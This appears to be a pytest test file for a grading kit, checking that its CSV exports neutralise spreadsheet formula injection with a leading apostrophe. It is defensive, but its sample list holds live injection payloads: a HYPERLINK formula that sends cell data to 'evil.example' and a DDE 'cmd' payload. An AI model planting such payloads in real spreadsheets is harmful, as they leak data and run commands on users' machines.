"""CSV injection: a cell that a spreadsheet would read as a formula (starting with `=`,
`+`, `-`, `@`, a tab or a carriage return) is written with a leading apostrophe, in every
CSV the kit writes for people to open: grades.csv and gradebook.csv of `grade`/`grade-all`
(gradeschool.grading.outputs.csv_text) and the course's exports."""

from __future__ import annotations

import csv
import io

import pytest

from gradeschool.course.csvcells import csv_text, safe_cell
from gradeschool.grading import outputs

pytestmark = pytest.mark.kit

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_neutralised(text):
    assert safe_cell(text) == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("value", ["alice", "Doe, Jo", "", 3.5, -1.0, 0, None, "a=b"])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value, "numbers (a negative penalty too) stay numbers"


@pytest.mark.parametrize("label", FORMULAS)
def test_grades_csv_of_grade_is_neutralised(label):
    report = {"submission": label, "created": "2026-11-01T09:00:00+00:00",
              "totals": {"points": 1.0, "max_points": 2.0}}
    rows = list(csv.reader(io.StringIO(outputs.csv_text([outputs.nbgrader_row(report)]))))
    assert rows[1][3] == "'" + label.replace("\r", "\n") and len(rows) == 2
    assert all(not c or c[0] not in "=+-@\t\r" for row in rows for c in row)


def test_csv_text_writes_a_header_and_neutralised_rows():
    text = csv_text([{"a": "=1", "b": 2}], ["a", "b"])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'=1", "2"]]
